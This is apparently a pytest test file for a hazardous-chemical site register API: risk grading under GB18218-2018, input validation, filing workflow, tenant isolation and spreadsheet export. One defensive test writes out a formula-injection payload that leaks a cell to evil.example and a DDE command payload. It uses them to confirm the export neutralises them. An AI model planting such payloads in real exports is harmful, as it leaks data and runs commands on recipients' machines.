"""The calculator and the register through the API."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from app.hazards import service
from app.hazards.rules.register import Reevaluation, reevaluation_status
from tests import worlds


def auth(app, username):
    with app.app_context():
        return {"Authorization": f"Bearer {worlds.login(username)}"}


def test_chlorine_storage_of_250_t_with_120_people_is_level_1(app, client, world):
    """The issue's acceptance example, as a safety officer would enter it."""
    h = auth(app, world.a.usernames["enterprise_admin"])
    r = client.post(
        "/api/v1/hazard-sources/assess",
        headers=h,
        json={
            "unit_kind": "storage",
            "exposed_population": 120,
            "substances": [{"name": "液氯", "quantity_t": 250}],
        },
    )
    assert r.status_code == 200
    body = r.json
    # 250/5 = 50; β(Cl₂) = 4 from Table 3; α = 2.0 for 100+ people; R = 2 × 200 = 400 → 一级.
    assert (body["sum_ratio"], body["alpha"], body["r_value"], body["level"]) == (50, 2, 400, 1)
    term = body["terms"][0]
    assert (term["critical_quantity_t"], term["q_source"]) == (5, "table1")
    assert (term["beta"], term["beta_source"]) == (4, "table3")
    assert body["alpha_band"] and body["data_version"] == "GB18218-2018"


def test_assess_mixture_and_not_major(app, client, world):
    h = auth(app, world.a.usernames["inspector"])
    r = client.post(
        "/api/v1/hazard-sources/assess",
        headers=h,
        json={
            "unit_kind": "production",
            "exposed_population": 0,
            "substances": [
                {"cas": "7782-50-5", "quantity_t": 1},
                {"name": "甲醇", "quantity_t": 100},
                {"category": "W5.3", "quantity_t": 40},
            ],
        },
    )
    assert r.status_code == 200
    assert r.json["is_major"] is False and r.json["level"] is None
    assert len(r.json["terms"]) == 3


def test_every_bad_substance_is_named_at_once(app, client, world):
    h = auth(app, world.a.usernames["inspector"])
    r = client.post(
        "/api/v1/hazard-sources/assess",
        headers=h,
        json={
            "unit_kind": "storage",
            "exposed_population": 5,
            "substances": [
                {"cas": "0000-00-0", "quantity_t": 1},
                {"name": "硝化纤维素", "quantity_t": 1},
                {"category": "W99", "quantity_t": 1},
                {"name": "甲醇", "quantity_t": -3},
                {"name": "甲醇"},  # no quantity at all
                {"name": "甲醇", "quantity_t": "lots"},
            ],
        },
    )
    assert r.status_code == 422
    errors = r.json["errors"]
    assert {key.split(".")[1] for key in errors} == {"0", "1", "2", "3", "4", "5"}
    assert "candidates" in " ".join(errors["substances.1.name"])


@pytest.mark.parametrize(
    "payload",
    [
        {
            "unit_kind": "tank",
            "exposed_population": 1,
            "substances": [{"name": "甲醇", "quantity_t": 1}],
        },
        {
            "unit_kind": "storage",
            "exposed_population": -1,
            "substances": [{"name": "甲醇", "quantity_t": 1}],
        },
        {"unit_kind": "storage", "exposed_population": 1, "substances": []},
        {"unit_kind": "storage", "exposed_population": 1, "substances": [{"name": "甲醇"}]},
        {
            "unit_kind": "storage",
            "exposed_population": 1,
            "substances": [{"name": "甲醇", "quantity_t": "lots"}],
        },
    ],
)
def test_malformed_requests_are_422(app, client, world, payload):
    h = auth(app, world.a.usernames["inspector"])
    r = client.post("/api/v1/hazard-sources/assess", headers=h, json=payload)
    assert r.status_code == 422 and r.content_type == "application/problem+json"


def register(client, h, **extra):
    body = {
        "name": "液氯储罐区",
        "unit_kind": "storage",
        "exposed_population": 120,
        "substances": [{"name": "氯气", "quantity_t": 250}],
        "location": "厂区东北角",
        "principal_name": "张三",
        "principal_phone": "13800000001",
        **extra,
    }
    return client.post("/api/v1/hazard-sources", headers=h, json=body)


def test_register_regrade_history_and_audit(app, client, world, owner_engine):
    h = auth(app, world.a.usernames["enterprise_admin"])
    r = register(client, h)
    assert r.status_code == 201
    source = r.json
    assert source["level"] == 1 and source["enterprise_id"] == str(world.a.enterprise1)
    assert source["monitoring_gaps"] == [
        "continuous_monitoring",
        "gas_detection",
        "emergency_shutdown",
    ]
    assert source["reevaluation_status"] == "missing" and source["filing_status"] == "draft"
    path = f"/api/v1/hazard-sources/{source['id']}"
    changed = client.patch(
        path,
        headers={**h, "If-Match": r.headers["ETag"]},
        json={"substances": [{"name": "氯气", "quantity_t": 10}]},
    )
    assert changed.status_code == 200
    # 10/5 = 2; × β 4 = 8; × α 2.0 = 16 → 三级 (10 ≤ R < 50).
    assert changed.json["level"] == 3 and changed.json["r_value"] == 16
    history = client.get(f"{path}/assessments", headers=h).json["items"]
    assert [a["level"] for a in history] == [1, 3]
    assert history[0]["inputs_digest"] != history[1]["inputs_digest"]
    import sqlalchemy as sa

    with owner_engine.connect() as conn:
        events = (
            conn.execute(
                sa.text(
                    "SELECT payload FROM audit_events WHERE entity_id = :i AND action = 'update'"
                ),
                {"i": source["id"]},
            )
            .scalars()
            .all()
        )
    assert any('"level":1' in e and '"level":3' in e for e in events)


def test_evaluation_change_and_filing(app, client, world):
    h = auth(app, world.a.usernames["enterprise_admin"])
    reg = auth(app, world.a.usernames["regulator"])
    evaluated = (service.today() - dt.timedelta(days=20)).isoformat()
    r = register(
        client,
        h,
        last_evaluated_on=evaluated,
        continuous_monitoring=True,
        gas_detection=True,
        emergency_shutdown=True,
    )
    source, etag = r.json, r.headers["ETag"]
    assert source["reevaluation_status"] == "current" and source["monitoring_gaps"] == []
    assert source["filing_overdue"] is True  # 20 days after the evaluation, not yet submitted
    path = f"/api/v1/hazard-sources/{source['id']}"
    assert client.post(f"{path}/file", headers=reg, json={}).status_code == 409
    submitted = client.post(f"{path}/submit", headers=h)
    assert submitted.status_code == 200 and submitted.json["filing_status"] == "submitted"
    assert client.post(f"{path}/submit", headers=h).status_code == 409
    returned = client.post(f"{path}/return", headers=reg, json={"note": "缺少评估报告"})
    assert returned.json["filing_status"] == "returned"
    assert returned.json["filing_note"] == "缺少评估报告"
    assert client.post(f"{path}/return", headers=reg, json={}).status_code == 422
    client.post(f"{path}/submit", headers=h)
    filed = client.post(f"{path}/file", headers=reg, json={"note": "同意备案"})
    assert filed.json["filing_status"] == "filed" and filed.json["filed_at"]
    etag = filed.headers["ETag"]
    # A change of surroundings after the evaluation: re-evaluation is due at once.
    moved = client.patch(path, headers={**h, "If-Match": etag}, json={"exposed_population": 30})
    assert moved.json["reevaluation_status"] == "overdue" and moved.json["change_pending"]
    listed = client.get("/api/v1/hazard-sources?reevaluation=overdue&limit=200", headers=reg)
    assert source["id"] in {s["id"] for s in listed.json["items"]}
    # A new evaluation covers the change and must be filed again.
    today = service.today().isoformat()
    again = client.patch(
        path, headers={**h, "If-Match": moved.headers["ETag"]}, json={"last_evaluated_on": today}
    )
    assert again.json["reevaluation_status"] == "current"
    assert again.json["filing_status"] == "draft"
    future = (service.today() + dt.timedelta(days=3)).isoformat()
    bad = client.patch(
        path, headers={**h, "If-Match": again.headers["ETag"]}, json={"last_evaluated_on": future}
    )
    assert bad.status_code == 422


def test_submit_needs_an_evaluation(app, client, world):
    h = auth(app, world.a.usernames["enterprise_admin"])
    source = register(client, h).json
    r = client.post(f"/api/v1/hazard-sources/{source['id']}/submit", headers=h)
    assert r.status_code == 422 and "last_evaluated_on" in r.json["errors"]


def test_regulator_filters_and_export(app, client, world):
    h = auth(app, world.a.usernames["enterprise_admin"])
    register(client, h, name="一级单元")
    register(
        client,
        h,
        name="四级单元",
        substances=[{"name": "氯气", "quantity_t": 6}],
        exposed_population=0,
    )
    reg = auth(app, world.a.usernames["regulator"])
    level1 = client.get(
        "/api/v1/hazard-sources?level=1&monitoring_gap=true&limit=200", headers=reg
    ).json["items"]
    assert level1 and all(s["level"] == 1 and s["monitoring_gaps"] for s in level1)
    no_shutdown = client.get(
        "/api/v1/hazard-sources?missing_shutdown=true&limit=200", headers=reg
    ).json["items"]
    assert no_shutdown
    assert all(
        s["level"] in (1, 2) and "emergency_shutdown" in s["monitoring_gaps"] for s in no_shutdown
    )
    by_sector = client.get(
        "/api/v1/hazard-sources?sector=hazardous_chemicals&limit=200", headers=reg
    ).json["items"]
    assert by_sector and {s["enterprise_id"] for s in by_sector} <= {
        str(world.a.enterprise1),
        str(world.a.enterprise2),
    }
    r = client.get("/api/v1/hazard-sources/export.xlsx?level=1", headers=reg)
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(r.data)).active
    rows = list(sheet.values)
    assert rows[0][:3] == ("企业名称", "统一社会信用代码", "单元名称")
    assert len(rows) - 1 == len(level1)
    assert all(row[6] == "一级" for row in rows[1:])
    b_names = {world.b.enterprise1, world.b.enterprise2}
    assert not any(str(x) in str(rows) for x in b_names)


def test_enterprise_sees_only_its_units(app, client, world):
    h = auth(app, world.a.usernames["enterprise_staff"])
    items = client.get("/api/v1/hazard-sources?limit=200", headers=h).json["items"]
    assert items and {s["enterprise_id"] for s in items} == {str(world.a.enterprise1)}


@pytest.mark.parametrize("status", list(Reevaluation))
def test_sql_filter_agrees_with_the_rule(app, status):
    """The list filter is the SQL twin of reevaluation_status: both must pick the same units."""
    today = dt.date(2026, 6, 1)
    cases = [
        (None, False),
        (dt.date(2023, 6, 1), False),
        (dt.date(2023, 6, 2), False),
        (dt.date(2023, 9, 1), False),
        (dt.date(2023, 8, 30), False),
        (dt.date(2025, 1, 1), True),
        (dt.date(2025, 1, 1), False),
    ]
    from app import tenancy
    from app.extensions import db
    from app.tenancy import Scope

    with app.app_context():
        tenant = worlds.make_tenant()
        ids = {}
        for last, change in cases:
            sid = worlds.make_hazard_source(
                tenant.authority_id, tenant.enterprise1, last_evaluated_on=last
            )
            ids[sid] = (last, change)
        with tenancy.using(Scope(authority_id=tenant.authority_id, system=True)):
            from app.hazards.models import HazardSource

            for sid, (_, change) in ids.items():
                db.session.get(HazardSource, sid).change_pending = change
            db.session.commit()
            picked = set(
                db.session.scalars(
                    service.list_sources(db.session, {"reevaluation": status.value}, day=today)
                    .where(HazardSource.id.in_(ids))
                    .with_only_columns(HazardSource.id)
                )
            )
        expected = {
            sid
            for sid, (last, change) in ids.items()
            if reevaluation_status(last, change, today, 90) == status
        }
        assert picked == expected


def test_export_never_carries_a_live_formula(app, client, world):
    h = auth(app, world.a.usernames["enterprise_admin"])
    trap = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    assert register(client, h, name=trap, location="+cmd|' /C calc'!A0").status_code == 201
    reg = auth(app, world.a.usernames["regulator"])
    data = client.get("/api/v1/hazard-sources/export.xlsx", headers=reg).data
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == trap]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_population_must_be_a_whole_number(app, client, world):
    h = auth(app, world.a.usernames["inspector"])
    r = client.post(
        "/api/v1/hazard-sources/assess",
        headers=h,
        json={
            "unit_kind": "storage",
            "exposed_population": 29.9,
            "substances": [{"name": "甲醇", "quantity_t": 1}],
        },
    )
    assert r.status_code == 422 and "exposed_population" in r.json["errors"]


def test_changes_withdraw_a_submission_and_retired_units_are_frozen(app, client, world):
    h = auth(app, world.a.usernames["enterprise_admin"])
    evaluated = (service.today() - dt.timedelta(days=3)).isoformat()
    source = register(client, h, last_evaluated_on=evaluated).json
    path = f"/api/v1/hazard-sources/{source['id']}"
    submitted = client.post(f"{path}/submit", headers=h)
    changed = client.patch(
        path,
        headers={**h, "If-Match": submitted.headers["ETag"]},
        json={"substances": [{"name": "氯气", "quantity_t": 999}]},
    )
    assert changed.status_code == 200 and changed.json["filing_status"] == "draft"
    retired = client.post(f"{path}/deactivate", headers=h)
    assert retired.status_code == 200
    again = client.patch(
        path, headers={**h, "If-Match": retired.headers["ETag"]}, json={"exposed_population": 1}
    )
    assert again.status_code == 409
    assert client.post(f"{path}/submit", headers=h).status_code == 409
